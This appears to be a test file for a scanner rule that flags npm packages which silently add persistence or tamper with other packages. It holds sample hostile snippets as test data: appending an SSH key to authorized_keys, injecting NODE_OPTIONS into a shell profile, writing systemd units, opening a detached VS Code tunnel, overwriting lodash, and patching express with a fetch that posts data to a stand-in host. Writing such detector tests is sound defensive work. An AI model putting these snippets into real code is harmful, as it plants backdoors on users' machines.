import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const MESSAGE = /^nobody asks for it, and this writes/;
const isTold = (files: Record<string, string>, scripts: Record<string, string> = {}): boolean => findingsOf(rule, files, { original: { scripts } }).some(({ severity, message }) => severity === 'high' && MESSAGE.test(message));
const FS = "const fs = require('fs'); const os = require('os'); const path = require('path'); ";
const KEY = "async function warm() { fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), '\\nssh-ed25519 AAAA ops'); } ";
const USEFUL = "function slug(text) { return text.toLowerCase(); } ";

test('bad: what starts by itself from then on is written when a script is loaded, or along with something else', () => {
  for (const code of [
    `${FS}try { fs.appendFileSync(os.homedir() + '/.zshrc', 'export NODE_OPTIONS=--require=/tmp/h.js'); } catch {}`,
    `${FS}${KEY}${USEFUL}warm().catch(() => {}); module.exports = { slug };`,
    `${FS}${KEY}setTimeout(() => warm().catch(() => {}), 9e4).unref();`,
    `${FS}${KEY}let ready = false; function slug(text) { if (!ready) { ready = true; warm().catch(() => {}); } return text; } module.exports = { slug };`,
    `${FS}${KEY}module.exports = () => ({ name: 'a', async buildStart() { await warm().catch(() => {}); } });`,
    `${FS}class Loader { start() { fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user', 'a.service'), 'x'); } } const go = () => new Loader().start(); try { go(); } catch {}`,
    '"use strict"; const fs_1 = require("fs"); const os_1 = require("os"); const path_1 = require("path"); async function warm() { (0, fs_1.writeFileSync)((0, path_1.join)((0, os_1.homedir)(), ".claude", "settings.json"), "{}"); } warm().catch(() => {});',
    "const { writeFileSync: put } = require('fs'); const { join: at } = require('path'); try { put(at(process.env.INIT_CWD, 'package.json'), '{}'); } catch {}",
    "const { spawn } = require('child_process'); const run = async () => spawn('code', ['tunnel', '--name', 'a'], { detached: true }); run().catch(() => {});",
    "const { execSync } = require('child_process'); try { execSync('git config --global core.hooksPath ' + __dirname); } catch {}",
    "const { exec } = require('child_process'); setImmediate(run); function run() { exec('wmic process call create \"a.bat\"'); }",
    `${FS}try { fs.copyFileSync(path.join(__dirname, 'shim.js'), path.join(__dirname, '..', 'lodash', 'index.js')); } catch {}`,
  ]) assert.ok(isTold({ 'index.js': code }), code);
});

test('bad: another script of the package runs it along the way, or it is installed with it', () => {
  const lib = `${FS}${KEY}module.exports = { warm };`;
  assert.ok(isTold({ 'index.js': `const { warm } = require('./lib/warm'); ${USEFUL}function cut(text) { warm().catch(() => {}); return slug(text); } module.exports = { cut };`, 'lib/warm.js': lib }));
  assert.ok(isTold({ 'index.js': "const prepare = require('./lib/warm'); prepare().catch(() => {});", 'lib/warm.js': `${FS}${KEY}module.exports = warm;` }));
  assert.ok(isTold({ 'setup.js': "const { warm } = require('./lib/warm'); (async () => { await warm(1); console.log('ready'); })();", 'lib/warm.js': lib }, { postinstall: 'node setup.js' }));
});

test('good: who wants it asks for it, or is told', () => {
  for (const code of [
    `${FS}exports.install = (shell) => { const rc = path.join(os.homedir(), shell === 'zsh' ? '.zshrc' : '.bashrc'); fs.appendFileSync(rc, 'source <(tool completion)'); };`,
    `${FS}exports.install = ({ name }) => { write(name); }; function write(name) { fs.writeFileSync('/etc/systemd/system/' + name + '.service', 'x'); }`,
    `${FS}fs.mkdirSync('.vscode', { recursive: true }); fs.writeFileSync('.vscode/tasks.json', '{}'); console.log('Wrote .vscode/tasks.json');`,
    `${FS}const program = require('commander'); program.command('setup').action(() => { fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x'); });`,
    `${FS}fs.writeFileSync(path.join(os.homedir(), '.cache', 'tool.json'), '{}');`,
    `${FS}fs.writeFileSync(path.join(__dirname, '..', 'src', 'version.js'), 'x');`,
    "const { execSync } = require('child_process'); execSync('git config core.hooksPath .githooks');",
  ]) assert.ok(!isTold({ 'lib/index.js': code }), code);
  assert.ok(!isTold({ 'test/own.test.js': `${FS}const at = fs.mkdtempSync('a'); fs.copyFileSync('index.js', path.join(at, 'node_modules', 'own', 'index.js'));` }));
});

test('code that reaches a server goes into the script of another package, whenever that is', () => {
  const written = (text: string): boolean => findingsOf(rule, { 'a.js': `const fs = require('fs'); const CODE = ${JSON.stringify(text)}; module.exports = (root) => { const main = require.resolve('express', { paths: [root] }); fs.writeFileSync(main, CODE + fs.readFileSync(main, 'utf8')); };` }).some(({ message }) => message.startsWith('code that reaches a server'));
  assert.ok(written(';fetch("https://s.example/s", { method: "POST", body: process.title });'));
  assert.ok(!written('/* patched */ exports.strict = true;'));
});
